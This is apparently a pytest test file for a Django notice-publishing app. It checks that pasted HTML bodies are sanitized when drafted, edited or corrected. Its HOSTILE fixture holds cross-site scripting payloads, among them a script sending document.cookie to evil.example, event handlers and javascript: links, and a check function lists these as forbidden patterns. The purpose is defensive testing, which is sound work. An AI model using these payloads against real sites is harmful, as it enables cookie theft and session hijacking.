"""The body a drafter pastes in is cleaned before it is stored: no scripts, no event handlers, no
javascript: links; ordinary formatting survives."""

from __future__ import annotations

import pytest

from xxgk.publishing import services
from xxgk.publishing.models import Record

pytestmark = pytest.mark.django_db

HOSTILE = (
    '<p onclick="steal()">各学院：</p>'
    '<script>document.location="https://evil.example/?c="+document.cookie</script>'
    '<p>详见<a href="javascript:alert(1)">附件</a>和<a href="JaVaScRiPt:alert(2)">名单</a>。</p>'
    '<img src="x.png" onerror="alert(3)">'
    '<iframe src="https://evil.example/"></iframe>'
    "<style>body{display:none}</style>"
    '<p style="color:red" onmouseover="alert(4)">请于<strong>6月10日前</strong>报送。</p>'
)

FRIENDLY = (
    "<h2>一、工作安排</h2>"
    "<p>请各单位<strong>认真</strong>组织，<em>按时</em>报送，<u>不得</u>遗漏。</p>"
    "<ul><li>第一项</li><li>第二项</li></ul>"
    "<ol><li>报名</li></ol>"
    "<blockquote>引用文件原文</blockquote>"
    '<table><thead><tr><th colspan="2">名单</th></tr></thead>'
    '<tbody><tr><td rowspan="2">张三</td><td>海洋科学</td></tr></tbody></table>'
    '<p>详见<a href="https://www.hntou.edu.cn/tzgg/1.htm" title="通知">学校通知</a>。</p>'
)


def assert_clean(body: str) -> None:
    lowered = body.lower()
    for bad in (
        "<script",
        "document.cookie",
        "onclick",
        "onerror",
        "onmouseover",
        "javascript:",
        "<iframe",
        "<style",
        "display:none",
        "style=",
    ):
        assert bad not in lowered, (bad, body)


def test_scripts_handlers_and_javascript_links_are_removed_on_drafting(new_draft):
    record = new_draft(body=HOSTILE)

    stored = Record.objects.get(pk=record.pk).body
    assert_clean(stored)
    # the words themselves stay
    assert "<p>各学院：</p>" in stored
    assert "附件" in stored and "名单" in stored
    assert "<strong>6月10日前</strong>" in stored


def test_allowed_formatting_is_kept(new_draft):
    stored = Record.objects.get(pk=new_draft(body=FRIENDLY).pk).body

    for kept in (
        "<h2>一、工作安排</h2>",
        "<strong>认真</strong>",
        "<em>按时</em>",
        "<u>不得</u>",
        "<ul><li>第一项</li><li>第二项</li></ul>",
        "<ol><li>报名</li></ol>",
        "<blockquote>引用文件原文</blockquote>",
        '<th colspan="2">名单</th>',
        '<td rowspan="2">张三</td>',
        'href="https://www.hntou.edu.cn/tzgg/1.htm"',
        'title="通知"',
    ):
        assert kept in stored, (kept, stored)


def test_links_open_without_handing_over_the_page(new_draft):
    stored = new_draft(body=FRIENDLY).body
    assert 'rel="noopener noreferrer"' in stored


def test_the_body_is_cleaned_when_a_draft_is_edited(new_draft, drafter):
    record = services.update_draft(drafter, new_draft(), {"body": HOSTILE})
    assert_clean(Record.objects.get(pk=record.pk).body)


def test_the_body_is_cleaned_when_a_published_record_is_corrected(published, signer):
    services.correct(signer, published, {"body": HOSTILE}, reason="补充报送时间")
    assert_clean(Record.objects.get(pk=published.pk).body)
